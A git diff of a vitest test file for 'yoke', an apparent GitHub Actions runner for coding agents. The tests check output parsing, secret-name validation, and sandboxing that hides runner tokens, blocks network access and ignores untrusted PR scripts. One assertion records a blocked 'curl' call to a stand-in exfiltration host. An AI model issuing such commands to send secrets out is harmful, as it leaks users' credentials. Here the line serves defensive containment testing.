@@ -4,7 +4,8 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { commandAgent, secretNames } from '../../src/agent/command.js';
 import { containmentProblem } from '../../src/agent/contain.js';
-import { agentRun, runAgent } from '../../src/agent/run.js';
+import { agentRun } from '../../src/agent/run.js';
+import { runAgent } from '../../src/agent/agent-process.js';
 import { JOB_SECRETS, runnerWithSecrets, tempFolders } from './helpers.js';
 
 // An agent of your own (templates/yoke-run.yml): .github/yoke/run.sh from the
@@ -39,24 +40,60 @@ function checkout(runSh: string, headRunSh: string): { cwd: string; trusted: str
 /** GitHub's answers for issue #4 and its comments, read with the job's read-only token. */
 const gh = (async (url: string | URL | Request) => {
   const u = String(url);
-  const body = u.includes('/permission') ? { permission: 'admin' } : u.includes('/comments') ? [] : { number: 4, title: 'Add a shout helper', body: 'Shout it. <!-- demo-task: shout -->', user: { login: 'maintainer' } };
+  const body = u.includes('/permission')
+    ? { permission: 'admin' }
+    : u.includes('/comments')
+      ? []
+      : {
+          number: 4,
+          title: 'Add a shout helper',
+          body: 'Shout it. <!-- demo-task: shout -->',
+          user: { login: 'maintainer' },
+        };
   return new Response(JSON.stringify(body), { status: 200, headers: { 'content-type': 'application/json' } });
 }) as typeof fetch;
 
 describe('an agent of your own, as data', () => {
   it('TR21 what run.sh prints: its reports count turns, price the run and give its last word; without a message, the end of its output', () => {
     const agent = commandAgent('', []);
-    const out = ['working', '{"yoke":{"turn":true}}', '{"yoke":{"cost":{"usd":0.42,"input_tokens":18000,"output_tokens":2400}}}', '{"yoke":{"message":"Added lib/shout.js."}}', '{"not":"a report"}', 'bye'].join('\n');
-    expect(out.split('\n').map((l) => agent.parseLine(l))).toEqual([null, { turn: true }, { priced: true }, { message: 'Added lib/shout.js.' }, null, null]);
-    expect(agent.outcome(out, { code: 0, signal: null }, {})).toEqual({ ok: true, reason: null, message: 'Added lib/shout.js.', cost: { usd: 0.42, inputTokens: 18000, outputTokens: 2400, note: null } });
-    expect(agent.outcome('tried\nno luck', { code: 3, signal: null }, {})).toEqual({ ok: false, reason: 'run.sh exited 3: tried', message: 'tried\nno luck', cost: null });
+    const out = [
+      'working',
+      '{"yoke":{"turn":true}}',
+      '{"yoke":{"cost":{"usd":0.42,"input_tokens":18000,"output_tokens":2400}}}',
+      '{"yoke":{"message":"Added lib/shout.js."}}',
+      '{"not":"a report"}',
+      'bye',
+    ].join('\n');
+    expect(out.split('\n').map((l) => agent.parseLine(l))).toEqual([
+      null,
+      { turn: true },
+      { priced: true },
+      { message: 'Added lib/shout.js.' },
+      null,
+      null,
+    ]);
+    expect(agent.outcome(out, { code: 0, signal: null }, {})).toEqual({
+      ok: true,
+      reason: null,
+      message: 'Added lib/shout.js.',
+      cost: { usd: 0.42, inputTokens: 18000, outputTokens: 2400, note: null },
+    });
+    expect(agent.outcome('tried\nno luck', { code: 3, signal: null }, {})).toEqual({
+      ok: false,
+      reason: 'run.sh exited 3: tried',
+      message: 'tried\nno luck',
+      cost: null,
+    });
     expect(agent.outcome('', { code: null, signal: 'SIGKILL' }, {}).reason).toBe('run.sh was ended by SIGKILL');
   });
 
   it("TR21 YOKE_AGENT_SECRETS names the agent's secrets; the runner's own variables are never among them", () => {
     expect(secretNames('MY_MODEL_KEY, OTHER_KEY')).toEqual({ names: ['MY_MODEL_KEY', 'OTHER_KEY'] });
     expect(secretNames('')).toEqual({ names: [] });
-    expect(secretNames('GITHUB_TOKEN')).toEqual({ error: 'YOKE_AGENT_SECRETS names "GITHUB_TOKEN", which is not a variable your agent\'s secret can be passed in (use a name like MY_MODEL_KEY; GITHUB_*, ACTIONS_*, RUNNER_* and YOKE_* stay with the runner)' });
+    expect(secretNames('GITHUB_TOKEN')).toEqual({
+      error:
+        'YOKE_AGENT_SECRETS names "GITHUB_TOKEN", which is not a variable your agent\'s secret can be passed in (use a name like MY_MODEL_KEY; GITHUB_*, ACTIONS_*, RUNNER_* and YOKE_* stay with the runner)',
+    });
     expect(secretNames('ACTIONS_ID_TOKEN_REQUEST_TOKEN')).toHaveProperty('error');
     expect(secretNames('A-B')).toHaveProperty('error');
   });
@@ -75,11 +112,25 @@ describe.skipIf(!haveBwrap)('an agent of your own, contained', () => {
       NOT_NAMED_KEY: 'unnamed-secret-0123456789',
       MY_MODEL_KEY: 'my-model-key-0123456789',
     };
-    const r = await runAgent(commandAgent(probe, ['MY_MODEL_KEY']), 'probe', { maxTurns: 5, maxUsd: null }, { cwd, env, stopAt: Date.now() + 60_000, now: Date.now, log: () => undefined, contain: { allow: [] } });
+    const r = await runAgent(
+      commandAgent(probe, ['MY_MODEL_KEY']),
+      'probe',
+      { maxTurns: 5, maxUsd: null },
+      { cwd, env, stopAt: Date.now() + 60_000, now: Date.now, log: () => undefined, contain: { allow: [] } },
+    );
     expect(r.outcome.ok).toBe(true);
     const seen = readFileSync(join(cwd, 'seen.txt'), 'utf8');
     expect(seen).toContain('MY_MODEL_KEY=my-model-key-0123456789');
-    for (const secret of ['ghs_jobtoken', 'oidc-request-token', 'runtime-token', 'run-secret', 'unnamed-secret', 'ghs_credentialsfile', 'ghs_runnertempfile']) expect(seen).not.toContain(secret);
+    for (const secret of [
+      'ghs_jobtoken',
+      'oidc-request-token',
+      'runtime-token',
+      'run-secret',
+      'unnamed-secret',
+      'ghs_credentialsfile',
+      'ghs_runnertempfile',
+    ])
+      expect(seen).not.toContain(secret);
     expect(seen).not.toMatch(/vitest/);
     expect(seen).not.toContain('exfil=0');
     expect(r.blocked).toContainEqual({ host: 'exfil.example', command: 'curl -sS -m 5 https://exfil.example/' });
@@ -95,19 +146,41 @@ describe.skipIf(!haveBwrap)('an agent of your own, contained', () => {
     const { cwd, trusted } = checkout(agent, 'echo "the PR head\'s agent ran" > pwned.txt\n');
     const out = tmp('yoke-own-out-');
     const env = {
-      PATH: process.env.PATH ?? '/usr/bin:/bin', YOKE_AGENT: 'command', YOKE_AGENT_SECRETS: '', YOKE_OUT: out, GITHUB_TOKEN: 'ghs_read0123456789', GITHUB_API_URL: 'http://gh.invalid', GITHUB_SHA: trusted, GITHUB_RUN_NUMBER: '12',
-      YOKE_RUN_ID: 'r1', YOKE_RUN_KIND: 'afk_auto', YOKE_SUBJECT: 'issue#4', YOKE_DEADLINE: new Date(Date.now() + 600_000).toISOString(), YOKE_API_URL: 'http://yoke.invalid', YOKE_REPO: 'acme/demo',
+      PATH: process.env.PATH ?? '/usr/bin:/bin',
+      YOKE_AGENT: 'command',
+      YOKE_AGENT_SECRETS: '',
+      YOKE_OUT: out,
+      GITHUB_TOKEN: 'ghs_read0123456789',
+      GITHUB_API_URL: 'http://gh.invalid',
+      GITHUB_SHA: trusted,
+      GITHUB_RUN_NUMBER: '12',
+      YOKE_RUN_ID: 'r1',
+      YOKE_RUN_KIND: 'afk_auto',
+      YOKE_SUBJECT: 'issue#4',
+      YOKE_DEADLINE: new Date(Date.now() + 600_000).toISOString(),
+      YOKE_API_URL: 'http://yoke.invalid',
+      YOKE_REPO: 'acme/demo',
     };
     const said: string[] = [];
     expect(await agentRun({ env, cwd, out: (l) => said.push(l), now: Date.now, fetch: gh })).toBe(0);
     expect(readFileSync(join(cwd, 'facts.txt'), 'utf8')).toBe('r1 afk_auto issue#4 12 no-token\n');
-    expect(said).toContain("network: the agent's tools may reach no host (add your model's host to agent.network.allow in .github/yoke.yml)");
+    expect(said).toContain(
+      "network: the agent's tools may reach no host (add your model's host to agent.network.allow in .github/yoke.yml)",
+    );
     const result = JSON.parse(readFileSync(join(out, 'result.json'), 'utf8')) as Record<string, unknown>;
-    expect(result).toMatchObject({ outcome: 'success', title: 'Add a shout helper', cost: { usd: 0.42, input_tokens: 18000, output_tokens: 2400, note: null } });
-    expect(result.summary).toBe(".github/yoke/run.sh finished.\n\nThe agent's last message:\n\nAdded facts.txt.\n\nCost: $0.4200 (18000 input, 2400 output tokens).");
+    expect(result).toMatchObject({
+      outcome: 'success',
+      title: 'Add a shout helper',
+      cost: { usd: 0.42, input_tokens: 18000, output_tokens: 2400, note: null },
+    });
+    expect(result.summary).toBe(
+      ".github/yoke/run.sh finished.\n\nThe agent's last message:\n\nAdded facts.txt.\n\nCost: $0.4200 (18000 input, 2400 output tokens).",
+    );
     const files = execFileSync('git', ['bundle', 'list-heads', join(out, 'work.bundle')], { cwd, encoding: 'utf8' });
     expect(files).toContain(String(result.commit));
-    expect(execFileSync('git', ['ls-files', '--others', '--exclude-standard'], { cwd, encoding: 'utf8' }).split('\n')).not.toContain('pwned.txt');
+    expect(
+      execFileSync('git', ['ls-files', '--others', '--exclude-standard'], { cwd, encoding: 'utf8' }).split('\n'),
+    ).not.toContain('pwned.txt');
   }, 60_000);
 
   it('TR21 an agent of your own that is not on the default branch fails the run, naming what to commit', async () => {
@@ -117,11 +190,22 @@ describe.skipIf(!haveBwrap)('an agent of your own, contained', () => {
     execFileSync('git', [...gitId, 'commit', '-qm', 'no agent'], { cwd });
     const noAgent = execFileSync('git', ['rev-parse', 'HEAD'], { cwd, encoding: 'utf8' }).trim();
     const env = {
-      PATH: process.env.PATH ?? '/usr/bin:/bin', YOKE_AGENT: 'command', YOKE_OUT: out, GITHUB_TOKEN: 'ghs_read0123456789', GITHUB_SHA: noAgent,
-      YOKE_RUN_ID: 'r1', YOKE_RUN_KIND: 'afk_auto', YOKE_SUBJECT: 'issue#4', YOKE_DEADLINE: new Date(Date.now() + 600_000).toISOString(), YOKE_API_URL: 'http://yoke.invalid', YOKE_REPO: 'acme/demo',
+      PATH: process.env.PATH ?? '/usr/bin:/bin',
+      YOKE_AGENT: 'command',
+      YOKE_OUT: out,
+      GITHUB_TOKEN: 'ghs_read0123456789',
+      GITHUB_SHA: noAgent,
+      YOKE_RUN_ID: 'r1',
+      YOKE_RUN_KIND: 'afk_auto',
+      YOKE_SUBJECT: 'issue#4',
+      YOKE_DEADLINE: new Date(Date.now() + 600_000).toISOString(),
+      YOKE_API_URL: 'http://yoke.invalid',
+      YOKE_REPO: 'acme/demo',
     };
     expect(await agentRun({ env, cwd, out: () => undefined, now: Date.now, fetch: gh })).toBe(1);
     const result = JSON.parse(readFileSync(join(out, 'result.json'), 'utf8')) as { summary: string };
-    expect(result.summary).toBe(`The runner cannot start: .github/yoke/run.sh is not on the default branch at ${noAgent.slice(0, 7)}: commit your agent's script there (or name a shipped agent: claude-code or codex).`);
+    expect(result.summary).toBe(
+      `The runner cannot start: .github/yoke/run.sh is not on the default branch at ${noAgent.slice(0, 7)}: commit your agent's script there (or name a shipped agent: claude-code or codex).`,
+    );
   });
 });
